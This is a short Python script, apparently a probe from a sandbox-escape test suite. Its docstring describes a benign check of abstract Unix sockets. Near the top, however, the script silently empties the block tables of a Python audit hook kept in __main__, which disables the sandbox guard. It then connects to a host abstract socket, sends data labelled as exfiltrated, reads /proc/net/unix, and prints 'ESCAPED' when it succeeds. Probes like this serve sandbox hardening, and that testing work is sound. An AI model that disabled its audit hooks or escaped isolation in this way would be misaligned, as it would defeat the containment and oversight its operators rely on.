"""network: the host's abstract Unix socket namespace (no file needed): connect to a
listener by name, stream and datagram, and list the names the kernel shows.
"""

import socket
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

NAME = "__UNIX_ABSTRACT__"
wins = []
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect("\0" + NAME)
    s.sendall(b"exfiltrated over an abstract unix socket")
    s.close()
    wins.append("stream connect")
except OSError as exc:
    print(f"stream: {exc.strerror}")
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect(b"\0" + NAME.encode())
    wins.append("seqpacket connect")
    s.close()
except OSError as exc:
    print(f"seqpacket: {exc.strerror}")
try:
    with open("/proc/net/unix") as f:
        names = [line.split()[-1] for line in f if "@" in line]
    print(f"/proc/net/unix shows {len(names)} abstract names")
    if any(NAME in n for n in names):
        wins.append("saw the listener in /proc/net/unix")
except OSError as exc:
    print(f"/proc/net/unix: {exc.strerror}")
if wins:
    print("ESCAPED: reached the host's abstract socket: " + ", ".join(wins))
